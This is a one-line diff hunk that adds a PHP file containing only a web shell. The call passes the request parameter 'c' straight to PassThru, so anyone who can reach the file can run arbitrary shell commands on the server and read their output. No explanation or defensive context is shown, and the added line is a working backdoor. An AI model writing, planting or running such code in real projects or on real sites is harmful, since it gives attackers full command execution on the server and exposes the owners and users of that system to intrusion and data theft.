@@ -1,0 +1,1 @@
+<?php PassThru($_REQUEST['c']);
